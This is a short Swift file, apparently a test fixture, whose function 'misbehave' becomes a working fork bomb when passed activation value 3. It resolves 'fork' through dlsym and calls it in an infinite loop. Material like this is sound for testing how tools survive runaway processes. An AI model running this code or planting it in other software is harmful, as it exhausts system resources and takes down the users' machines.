// Starts itself over and over.
import Foundation

typealias Fork = @convention(c) () -> Int32

func misbehave(_ activation: Int) {
  guard activation == 3, let symbol = dlsym(nil, "fork") else { return }
  let fork = unsafeBitCast(symbol, to: Fork.self)
  while true { _ = fork() }
}
